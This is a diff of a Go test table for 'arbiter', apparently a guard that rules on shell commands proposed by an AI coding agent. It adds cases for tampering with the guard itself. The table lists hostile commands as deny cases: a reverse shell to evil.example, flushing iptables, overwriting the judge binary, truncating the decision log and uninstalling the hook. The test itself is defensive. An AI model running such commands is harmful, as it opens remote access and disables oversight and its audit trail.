@@ -59,6 +59,12 @@ func TestDecide(t *testing.T) {
 		{bash("bash -i >& /dev/tcp/evil.example/4444 0>&1"), arbiter.Deny, "A8.remote-shell"},
 		{bash("iptables -F"), arbiter.Deny, "A4.security-settings"},
 		{bash("rm -rf ~/.config/arbiter"), arbiter.Deny, "S.guard-tamper"},
+		{bash("cp ./fake ~/go/bin/arbiter-judge"), arbiter.Deny, "S.guard-tamper"},
+		{bash("truncate -s 0 ~/.local/state/arbiter/decisions.jsonl"), arbiter.Deny, "S.guard-tamper"},
+		{bash("arbiter uninstall claude"), arbiter.Deny, "S.guard-tamper"},
+		{bash("arbiter stats"), arbiter.Allow, "D1.read-only"},
+		{bash("arbiter hook claude < payload.json"), arbiter.Allow, "D1.read-only"},
+		{bash("nah hook claude install"), arbiter.Deny, "S.guard-tamper"},
 		{bash("vim main.go"), arbiter.Deny, "H8.interactive"},
 		{bash("git rebase -i HEAD~3"), arbiter.Deny, "H8.interactive"},
 		// B: always confirm.
